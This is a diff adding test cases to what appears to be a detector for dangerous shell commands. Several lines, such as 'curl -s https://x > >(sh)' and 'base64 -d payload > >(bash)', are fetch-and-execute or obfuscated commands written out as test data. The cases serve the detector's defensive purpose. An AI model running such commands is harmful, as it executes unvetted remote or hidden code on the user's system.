@@ -99,6 +99,7 @@ def test_code_detail_is_truncated(run: Analyze) -> None:
         ("curl -fsSLO https://x/i.sh; chmod +x i.sh; ./i.sh", "i.sh"),
         ("wget https://x/setup.sh && sh setup.sh", "sh"),
         ("curl https://x > /tmp/s && . /tmp/s", "source"),
+        ("curl -s https://x > >(sh)", "sh"),
     ],
 )
 def test_download_to_shell(run: Analyze, source: str, runner: str) -> None:
@@ -121,6 +122,7 @@ def test_download_to_shell(run: Analyze, source: str, runner: str) -> None:
         "cat < <(curl -s https://x)",
         "curl -o data.json https://x && bash build.sh",
         "wget https://x/a.tgz && tar xzf a.tgz",
+        "curl -s https://x > >(tee log.txt)",
     ],
 )
 def test_downloads_not_run_as_code(run: Analyze, source: str) -> None:
@@ -145,6 +147,7 @@ def test_downloads_not_run_as_code(run: Analyze, source: str) -> None:
         "echo -e '\\x72\\x6d' | bash",
         'sh -c "$(echo cm0K | base64 -d)"',
         "bash <(base64 -d <<< cm0K)",
+        "base64 -d payload > >(bash)",
         "echo cm0K | base64 -d | python3",
     ],
 )
